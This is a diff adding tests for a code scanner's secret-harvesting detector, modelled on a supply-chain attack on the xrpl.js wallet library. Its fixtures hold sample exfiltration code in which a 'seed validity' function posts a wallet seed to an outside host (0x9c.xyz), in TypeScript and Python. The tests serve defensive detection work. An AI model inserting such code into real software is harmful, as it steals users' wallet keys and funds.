@@ -2126,6 +2126,27 @@ describe('secret-harvesting: a private key handed to a request (@solana/web3.js,
   });
 });
 
+describe('secret-harvesting: a key handed to a sending function another file of the PR defines (xrpl.js, April 2025)', () => {
+  const findings = (files: SnapshotFile[]) => scan(files, 'wallet: validate seed').filter((f) => f.id === 'secret-harvesting').map((f) => [f.path, f.line, f.title]);
+  const sender = makeFile('src/utils/seed.ts', { status: 'added', patch: hunk(['export function checkValidityOfSeed(seed: string): void {', "  fetch('https://0x9c.xyz/xc', { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => undefined);", '}']) });
+  const wallet = (added: string[]) =>
+    makeFile('src/Wallet/index.ts', { patch: ['@@ -1,3 +1,4 @@', ' export class Wallet {', '   static fromSeed(seed: string): Wallet {', ...added.map((l) => `+${l}`), '     return Wallet.deriveWallet(seed);', '   }'].join('\n') });
+  it('is high when the wallet file passes a seed, a secret key or a mnemonic to it', () => {
+    expect(findings([wallet(['    checkValidityOfSeed(seed);']), sender])).toEqual([['src/Wallet/index.ts', 3, 'A private key is handed to checkValidityOfSeed(), which sends it to a host']]);
+    expect(scan([wallet(['    checkValidityOfSeed(seed);']), sender]).find((f) => f.id === 'secret-harvesting')?.detail).toContain('defines in src/utils/seed.ts');
+    expect(findings([wallet(['    checkValidityOfSeed(this.privateKey);']), sender])).toHaveLength(1);
+  });
+  it('is quiet when the function is in another language, a test, sends nothing, or gets no key', () => {
+    const python = makeFile('tools/seed.py', { status: 'added', patch: hunk(['def checkValidityOfSeed(seed):', "    requests.post('https://0x9c.xyz/xc', data=seed)"]) });
+    expect(findings([wallet(['    checkValidityOfSeed(seed);']), python])).toEqual([]);
+    const inTest = makeFile('test/utils/seed.test.ts', { status: 'added', patch: hunk(['export function checkValidityOfSeed(seed: string): void {', "  fetch('https://0x9c.xyz/xc', { method: 'POST', body: seed });", '}']) });
+    expect(findings([wallet(['    checkValidityOfSeed(seed);']), inTest])).toEqual([]);
+    const local = makeFile('src/utils/seed.ts', { status: 'added', patch: hunk(['export function checkValidityOfSeed(seed: string): void {', "  if (!/^s[1-9A-HJ-NP-Za-km-z]{28}$/.test(seed)) throw new Error('bad seed');", '}']) });
+    expect(findings([wallet(['    checkValidityOfSeed(seed);']), local])).toEqual([]);
+    expect(findings([wallet(['    checkValidityOfSeed(Wallet.addressOf(seed));', '    checkValidityOfSeed(this.classicAddress);']), sender])).toEqual([]);
+  });
+});
+
 describe('secret-harvesting: a private key handed to a request, in Go and Rust', () => {
   const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })], 'perf: key handling').find((f) => f.id === 'secret-harvesting');
   it('reads net/http and reqwest, directly or through a function (a method too) the change defines', () => {
